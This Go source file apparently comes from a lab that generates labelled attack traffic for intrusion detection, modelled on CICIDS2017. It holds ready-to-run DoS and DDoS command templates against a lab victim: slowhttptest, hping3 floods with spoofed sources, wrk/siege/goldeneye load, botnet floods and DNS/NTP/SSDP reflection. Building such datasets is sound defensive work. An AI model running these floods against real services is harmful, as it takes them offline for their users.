package lab

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"firetower/internal/attack"
)

// flooding is one source, of which one cannot always tell that it is one.
var flooding = family{class: attack.DoS, also: []attack.Class{attack.DDoS}, limit: 45 * time.Second, play: floodOne}

// floodingTogether is many.
var floodingTogether = family{class: attack.DDoS, also: []attack.Class{attack.DoS}, limit: 40 * time.Second, near: true, play: floodMany}

// floods: one source that keeps a service from working, slowly or by rate.
func floods() []Scenario {
	slow, fast := flooding, flooding.nearby()
	// Debian 12's goldeneye divides where its Python wants whole numbers.
	const goldeneye = "sed 's:/2):\\/\\/2):' /usr/bin/goldeneye > ge.py; timeout SECS /usr/bin/python3 ge.py http://VICTIM/ -w 2 -s WORKERS -m random"
	return []Scenario{
		slow.row("slow-headers", "slowhttptest -H -c CONNS -r RATE -i GAP -l LENGTH -u http://VICTIM/"),
		slow.row("slow-body", "slowhttptest -B -c CONNS -r RATE -i GAP -l LENGTH -s 8192 -u http://VICTIM/comment"),
		slow.row("slow-read", "slowhttptest -X -c CONNS -r RATE -w 16 -y 64 -n 5 -z 32 -k 3 -l LENGTH -u http://VICTIM/static/big.png"),
		slow.row("slow-range", "slowhttptest -R -c CONNS -r RATE -a 10 -b 3000 -l LENGTH -u http://VICTIM/"),
		slow.row("slow-few", "slowhttptest -H -c 40 -r 4 -i GAP -l LENGTH -u http://VICTIM/"),
		fast.row("hping3-syn", "timeout SECS hping3 -q -S -p 80 -i uGAPU VICTIM"),
		fast.row("hping3-udp", "timeout SECS hping3 -q -2 -p 53 -d SIZE -i uGAPU VICTIM"),
		fast.row("hping3-icmp", "timeout SECS hping3 -q -1 -d SIZE -i uGAPU VICTIM"),
		fast.row("hping3-ack", "timeout SECS hping3 -q -A -p 80 -i uGAPU VICTIM"),
		fast.row("hping3-ports", "timeout SECS hping3 -q -2 -p ++1 -d SIZE -i uGAPU VICTIM", attack.PortScan),
		fast.row("ab", "timeout SECS ab -q -n 100000 -c WORKERS http://VICTIM/"),
		fast.row("wrk", "wrk -t 1 -c WORKERS -d SECSs http://VICTIM/login"),
		fast.row("wrk-close", "wrk -t 1 -c WORKERS -d SECSs -H 'Connection: close' http://VICTIM/terms"),
		fast.row("siege", "siege -q -b -c WORKERS -t SECSS http://VICTIM/"),
		fast.row("goldeneye", goldeneye),
		fast.row("hulk", "SELF flood -url http://VICTIM/search -workers WORKERS -rate 20 -for SECSs -seed SEED"),
		fast.row("hulk-keep", "SELF flood -url http://VICTIM/ -keep -workers WORKERS -rate 20 -for SECSs -seed SEED"),
		fast.row("post-flood", "SELF flood -url http://VICTIM/comment -post -workers WORKERS -rate 15 -for SECSs -seed SEED"),
		fast.row("connect-flood", "SELF dial -to VICTIM:80 -rate 400 -for SECSs"),
	}
}

func floodOne(ctx context.Context, r *Run, line string) error {
	a, err := r.attacker(ctx)
	if err != nil {
		return err
	}
	r.against(r.Shop)
	line = r.fillFlood(line, r.Shop)
	r.strikeWith(ctx, a, line)
	return nil
}

// strikeWith plays a filled-in line of a table, be it one of the lab's own programs.
func (r *Run) strikeWith(ctx context.Context, h *Host, line string) {
	if rest, ok := strings.CutPrefix(line, "SELF "); ok {
		r.actor(ctx, h, "%s", rest)
		return
	}
	r.play(ctx, h, "%s", line)
}

func (r *Run) fillFlood(line string, victim *Host) string {
	return strings.NewReplacer("CONNS", fmt.Sprint(r.between(60, 400)), "RATE", fmt.Sprint(r.between(10, 100)), "GAP ", fmt.Sprint(r.between(3, 12))+" ",
		"LENGTH", fmt.Sprint(r.between(25, 40)), "SECS", fmt.Sprint(r.between(5, 12)), "GAPU", fmt.Sprint(r.between(250, 1500)), "GENTLE", fmt.Sprint(r.between(2500, 20000)), "FEW", fmt.Sprint(r.between(30, 150)), "THREADS", fmt.Sprint(r.between(6, 16)),
		"SIZE", fmt.Sprint(r.between(20, 1200)), "WORKERS", fmt.Sprint(r.between(10, 80)), "SEED", fmt.Sprint(r.Uint64()), "VICTIM", r.at(victim).String()).Replace(line)
}

// distributed: many addresses against one, spoofed or with whole connections.
func distributed() []Scenario {
	return []Scenario{
		floodingTogether.row("spoofed-syn", "timeout SECS hping3 -q -S --rand-source -p 80 -i uGAPU VICTIM"),
		floodingTogether.row("spoofed-udp", "timeout SECS hping3 -q -2 --rand-source -p 53 -d SIZE -i uGAPU VICTIM"),
		floodingTogether.row("spoofed-icmp", "timeout SECS hping3 -q -1 --rand-source -d 56 -i uGAPU VICTIM"),
		floodingTogether.row("spoofed-ack", "timeout SECS hping3 -q -A --rand-source -p 443 -i uGAPU VICTIM"),
		floodingTogether.row("botnet-get", "SELF flood -url http://VICTIM/search -from BOTNET -workers BOTS -rate 4 -for SECSs -seed SEED"),
		floodingTogether.row("botnet-post", "SELF flood -url http://VICTIM/login -post -from BOTNET -workers BOTS -rate 3 -for SECSs -seed SEED"),
		floodingTogether.row("botnet-connect", "SELF dial -to VICTIM:80 -from BOTNET -rate 500 -for SECSs"),
		floodingTogether.row("botnet-slow", "SELF dial -to VICTIM:80 -from BOTNET -rate 30 -for 25s -hold 25s -say GET\\x20/\\x20HTTP/1.1\\r\\nHost:\\x20shop\\r\\n"),
		floodingTogether.row("dns-reflection", "SELF reflect -to VICTIM -from BOTNET -port 53 -size 1300 -reflectors BOTS -rate 3000 -for SECSs"),
		floodingTogether.row("ntp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 123 -size 460 -reflectors BOTS -rate 3000 -for SECSs"),
		floodingTogether.row("ssdp-reflection", "SELF reflect -to VICTIM -from BOTNET -port 1900 -size 320 -reflectors BOTS -rate 2000 -for SECSs"),
		{Name: "three-machines", Class: attack.DDoS, Also: []attack.Class{attack.DoS}, Limit: 40 * time.Second, Near: true, Play: threeMachines},
	}
}

func floodMany(ctx context.Context, r *Run, line string) error {
	a, err := r.host(ctx, "botnet", false)
	if err != nil {
		return err
	}
	net := netip.PrefixFrom(netip.AddrFrom4([4]byte{198, 18, byte(r.IntN(64) * 4), 0}), 22)
	if err := a.Own(ctx, net); err != nil {
		return err
	}
	r.against(r.Shop)
	line = strings.NewReplacer("BOTNET", net.String(), "BOTS", fmt.Sprint(r.between(80, 300))).Replace(r.fillFlood(line, r.Shop))
	r.strikeWith(ctx, a, line)
	return nil
}

// threeMachines is how CICIDS2017's own DDoS was made: a few hosts, each flooding.
func threeMachines(ctx context.Context, r *Run) error {
	r.against(r.Shop)
	done := make(chan struct{})
	n := r.between(3, 5)
	var bots []*Host
	for i := range n {
		h, err := r.host(ctx, fmt.Sprintf("bot%d", i), false)
		if err != nil {
			return err
		}
		bots = append(bots, h)
	}
	secs, workers := r.between(8, 15), r.between(8, 20)
	for i, h := range bots {
		go func() {
			defer func() { done <- struct{}{} }()
			h.Self(ctx, "flood", "-url", "http://"+r.Shop.Addr.String()+"/", "-workers", fmt.Sprint(workers), "-rate", "25",
				"-for", fmt.Sprintf("%ds", secs), "-seed", fmt.Sprint(i))
		}()
	}
	for range bots {
		<-done
	}
	r.note(fmt.Sprintf("flood from %d machines, %d workers each, %d s", n, workers, secs))
	return nil
}
